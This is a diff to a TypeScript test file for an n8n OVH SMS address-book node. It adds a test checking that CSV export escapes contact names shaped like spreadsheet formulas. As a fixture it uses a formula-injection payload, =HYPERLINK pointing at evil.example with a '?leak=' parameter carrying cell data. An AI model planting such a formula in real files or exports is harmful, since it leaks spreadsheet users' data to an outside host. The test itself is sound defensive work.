@@ -8,6 +8,7 @@ import type { ICredentialDataDecryptedObject, IDataObject, INodeExecutionData } 
 import { OvhSmsAddressBook } from '../../../nodes/OvhSmsAddressBook/OvhSmsAddressBook.node';
 import { registerNodeType, runNode, type RunResult } from '../../support/n8nEngine';
 import { jsonOf, sendParameters, useNodeHarness } from '../ovhSms/helpers';
+import { sandboxClient } from '../trigger/support';
 
 registerNodeType('n8n-nodes-ovh-sms.ovhSmsAddressBook', new OvhSmsAddressBook());
 
@@ -650,5 +651,20 @@ describe('Address Book import: CSV files', () => {
 			expect(contacts()).toEqual([...created!, '+33699999901'].sort());
 		}
 		expect(creditsLeft()).toBe(CREDITS);
+	});
+
+	test('Export: a contact named like a spreadsheet formula is written as text (CSV injection)', async () => {
+		const client = sandboxClient(harness.sandbox);
+		const path = `/sms/${harness.sandbox.serviceName}/phonebooks/${bookKey}/phonebookContact`;
+		const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+		await client.post(path, { group: 'VIP', name: '@SUM(1+1)', surname: formula, homeMobile: '+33611111101' });
+		await client.post(path, { group: 'VIP', name: 'Ann', surname: 'Dupont', homeMobile: '+33611111102' });
+		const result = await runBook({ resource: 'addressBook', operation: 'export', addressBook: { __rl: true, mode: 'id', value: bookKey }, binaryPropertyName: 'data' });
+		expect(result.status).toBe('success');
+		const csv = Buffer.from(result.output[0].binary!.data.data, 'base64').toString('utf8');
+		const lines = csv.trim().split('\n').sort();
+		expect(lines).toContain(`VIP;"'@SUM(1+1)";"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")";+33611111101;;;`);
+		expect(lines).toContain('VIP;Ann;Dupont;+33611111102;;;');
+		note('Export: contact named =HYPERLINK(…), first name @SUM(1+1)', `written as "'=HYPERLINK(…)" and "'@SUM(1+1)": text in a spreadsheet; phone numbers unchanged`);
 	});
 });
